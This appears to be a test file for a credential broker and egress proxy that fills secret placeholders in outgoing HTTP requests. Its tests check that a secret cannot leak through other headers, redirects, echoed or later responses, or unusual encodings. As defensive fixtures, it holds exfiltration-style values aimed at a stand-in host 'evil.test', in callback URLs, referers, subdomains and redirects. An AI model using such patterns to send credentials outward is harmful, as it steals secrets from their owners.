import { createServer, request as httpRequest, type IncomingMessage } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createMask } from '../../src/adapters/tools/mcp/create-mask.ts';
import { systemClock } from '../../src/base/clock.ts';
import { Secret } from '../../src/base/secret.ts';
import { credentialSchema } from '../../src/model/credential.ts';
import { CredentialBroker } from '../../src/runtime/credentials/credential-broker.ts';
import { closeServer, type EgressWorld, listen, openEgressWorld } from './egress-world.ts';

/*
 * A hijacked program knows the placeholder, may use it, and wants the value, or wants it to go where somebody else reads it: a
 * place that the host keeps and shows, another host, an answer in which it is not recognised.
 */

const SECRET = 'plum-otter-wrong-place-7d1c';
const secret = new Secret('cred:one', SECRET);
const seen: string[][] = [];
let answer: (incoming: IncomingMessage) => {
  headers?: Record<string, string>;
  status?: number;
  body?: string | Buffer;
};
const host = createServer((incoming, response) => {
  seen.push(incoming.rawHeaders);
  const { headers = {}, status = 200, body = 'ok' } = answer(incoming);
  response.writeHead(status, headers).end(body);
});
let world: EgressWorld;
let port: number;

beforeAll(async () => {
  port = await listen(host);
  const config = credentialSchema.parse({ hosts: ['api.test'], plain: true });
  const broker = new CredentialBroker({
    clock: systemClock,
    find: (name) => (name === 'one' ? { config, source: { lease: async () => ({ secret }) } } : undefined),
    hold: () => {},
    letGo: () => {},
    record: () => {},
    report: () => {},
  });
  const allowed = { ports: [port], addresses: ['127.0.0.1'] };
  world = await openEgressWorld({
    egress: {
      allow: [
        { host: 'api.test', ...allowed },
        { host: 'evil.test', ...allowed },
      ],
    },
    runtime: {
      leaseCredential: (session, name, to) => broker.lease(session, name, to),
      holdsSecret: (text) => text.includes(SECRET),
      maskText: createMask([secret]) ?? ((text) => text),
    },
  });
});
afterAll(async () => {
  await world[Symbol.asyncDispose]();
  await closeServer(host);
});
beforeEach(() => {
  seen.length = 0;
  answer = () => ({});
});

interface Got {
  readonly status: number;
  readonly location: string;
  readonly bytes: Buffer;
}

function ask(
  path: string,
  headers: Record<string, string | string[]>,
  to = 'api.test',
  method = 'GET',
  body?: string,
  socketPath = world.path,
): Promise<Got> {
  return new Promise((resolve, reject) => {
    const sent = httpRequest({
      socketPath,
      method,
      path: path.startsWith('http') ? path : `http://${to}:${port}${path}`,
      headers: { host: `${to}:${port}`, ...headers },
      insecureHTTPParser: true,
    });
    sent.once('error', reject);
    sent.once('response', (answered) => {
      const chunks: Buffer[] = [];
      answered.on('data', (chunk: Buffer) => chunks.push(chunk));
      answered.once('close', () =>
        resolve({
          status: answered.statusCode ?? 0,
          location: answered.headers.location ?? '',
          bytes: Buffer.concat(chunks),
        }),
      );
      answered.on('error', () => {});
    });
    sent.end(body);
  });
}

const bearer = { authorization: 'Bearer {{cred:one}}' };
const codes = async () => (await world.events()).map(({ body }) => body['code']);

describe('a placeholder', () => {
  it('is filled where it says who asks', async () => {
    expect((await ask('/', bearer)).status).toBe(200);
    expect(seen.flat()).toContain(`Bearer ${SECRET}`);
  });

  it.each([
    ['metadata of a file, which is shown to whoever may read it', { 'x-amz-meta-note': '{{cred:one}}' }],
    ['a name for a file', { 'content-disposition': 'attachment; filename="{{cred:one}}"' }],
    ['where a host calls back', { 'x-callback-url': 'http://evil.test/?{{cred:one}}' }],
    ['who sent somebody here', { referer: 'http://evil.test/{{cred:one}}' }],
    ['what a program calls itself', { 'user-agent': '{{cred:one}}' }],
    ['both where it may and where it may not', { ...bearer, 'x-note': '{{cred:one}}' }],
    ['in another case', { 'X-Note': '{{CRED:ONE}}' }],
    ['in the login of another header', { 'x-note': `Basic ${Buffer.from('a:{{cred:one}}').toString('base64')}` }],
    ['many times over', { authorization: '{{cred:one}}'.repeat(5) }],
  ])('is not filled in %s', async (_where, headers) => {
    expect((await ask('/', headers)).status).toBe(403);
    expect(seen).toEqual([]);
    expect((await codes()).at(-1)).toBe('E_CREDENTIAL_DENIED');
  });

  it('is no part of an address, a host, a body or the name of a header', async () => {
    await ask('/%7B%7Bcred:one%7D%7D?q=%7B%7Bcred:one%7D%7D', {});
    await ask('/', {}, 'api.test', 'POST', '{{cred:one}}');
    await ask(`http://{{cred:one}}.evil.test:${port}/`, {}).catch(() => {});
    await ask('/', { host: `{{cred:one}}:${port}` }).catch(() => {});
    expect(seen.flat().join()).not.toContain(SECRET);
  });

  it('goes to no other host by a redirect that a client follows with the same headers', async () => {
    answer = () => ({ status: 302, headers: { location: `http://evil.test:${port}/?back=${SECRET}` } });
    const { location } = await ask('/', bearer);
    expect(location).not.toContain(SECRET);
    expect((await ask(new URL(location).href, bearer, 'evil.test')).status).toBe(403);
    expect(seen.length).toBe(1);
  });

  it('stays one where a host sends it back, and is never filled on the way in', async () => {
    answer = () => ({ headers: { 'x-echo': '{{cred:one}}' }, body: 'use {{cred:one}}' });
    expect((await ask('/', bearer)).bytes.toString()).toBe('use {{cred:one}}');
    expect((await ask('/', {})).bytes.toString()).toBe('use {{cred:one}}');
  });
});

describe('an answer to a request with a credential', () => {
  it.each(['utf-16le', 'UTF-16', 'utf-32', '"utf-7"', 'ibm037'])('is withheld in the alphabet %s', async (charset) => {
    answer = () => ({
      headers: { 'content-type': `text/plain; charset=${charset}` },
      body: Buffer.from(SECRET, 'utf16le'),
    });
    const { bytes } = await ask('/', bearer);
    expect(bytes.toString('utf16le')).not.toContain(SECRET);
    expect((await codes()).at(-1)).toBe('E_RESULT_UNSCANNED');
  });

  it('is asked for whole and unpacked, whatever the client asked for', async () => {
    await ask('/', { ...bearer, range: 'bytes=0-5', 'accept-encoding': 'gzip', 'if-range': '"x"', te: 'trailers' });
    const names = seen.flat().map((text) => text.toLowerCase());
    for (const name of ['range', 'if-range', 'te', 'gzip']) expect(names).not.toContain(name);
    expect(names).toContain('identity');
  });

  it('hides nothing behind a status that has no body, and nothing in what is said before it', async () => {
    answer = () => ({ status: 304, headers: { etag: `"${SECRET}"`, 'set-cookie': `a=${SECRET}` } });
    const { status, bytes } = await ask('/', bearer);
    expect([status, bytes.length]).toEqual([304, 0]);
  });

  it('is looked at when it comes later, to a request without one, by this client or another', async () => {
    let kept: string[] = [];
    answer = (incoming) => {
      if (incoming.url !== '/log') kept = incoming.rawHeaders;
      return { headers: { 'x-last': kept.join(' ') }, body: kept.join(' ') };
    };
    expect((await ask('/', bearer)).status).toBe(200);
    const log = await ask('/log', { 'accept-encoding': 'gzip', range: 'bytes=0-9' });
    expect(log.bytes.toString()).toContain('cred:one');
    expect(log.bytes.toString()).not.toContain(SECRET);
    const sentLast = seen.at(-1)?.map((text) => text.toLowerCase());
    for (const name of ['range', 'gzip']) expect(sentLast).not.toContain(name);

    const { session } = await world.book.openFor({ tenant: 'default', agent: 'agent', runId: world.run.id }, world.run);
    const path = `${world.path}2`;
    await world.door.listen({ path, session });
    const other = await ask('/log', {}, 'api.test', 'GET', undefined, path);
    expect(other.bytes.toString()).not.toContain(SECRET);
    expect(other.bytes.toString()).toContain('cred:one');
  });

  it.each(['a stream', 'of a known length'])('is looked at where it began before one was sent: %s', async (kind) => {
    const another = `stream-${kind.length}.test`;
    let go = (_: IncomingMessage) => {};
    const slow = createServer((incoming, response) => {
      if (incoming.url === '/wait') {
        const said = 'begun '.repeat(400);
        response.writeHead(200, kind === 'a stream' ? {} : { 'content-length': said.length + 400 });
        response.write(said);
        go = (later) => response.end(later.rawHeaders.join(' ').slice(0, 400).padEnd(400));
      } else {
        response.end('ok');
        go(incoming);
      }
    });
    const slowPort = await listen(slow);
    await using waiting = await openEgressWorld({
      egress: { allow: [{ host: another, ports: [slowPort], addresses: ['127.0.0.1'] }] },
      runtime: {
        leaseCredential: async () => ({ secret }),
        maskText: createMask([secret]) ?? ((text) => text),
      },
    });
    const to = (path: string, headers: Record<string, string>) =>
      ask(
        `http://${another}:${slowPort}${path}`,
        { ...headers, host: `${another}:${slowPort}` },
        another,
        'GET',
        undefined,
        waiting.path,
      );
    const first = to('/wait', {});
    await expect.poll(() => String(go).includes('later'), { timeout: 20_000 }).toBe(true);
    expect((await to('/', bearer)).status).toBe(200);
    const { bytes } = await first;
    expect(bytes.toString()).toContain('begun');
    expect(bytes.toString()).not.toContain(SECRET);
    await closeServer(slow);
  });

  it('is refused where a header is named after it, and nothing else is', async () => {
    answer = () => ({ headers: { [SECRET]: 'x', 'x-other': 'y' } });
    const { bytes, status } = await ask('/', bearer);
    expect(status).toBe(502);
    expect(bytes.toString()).not.toContain(SECRET);
    answer = () => ({});
    expect((await ask('/', {})).status).toBe(200);
  });
});
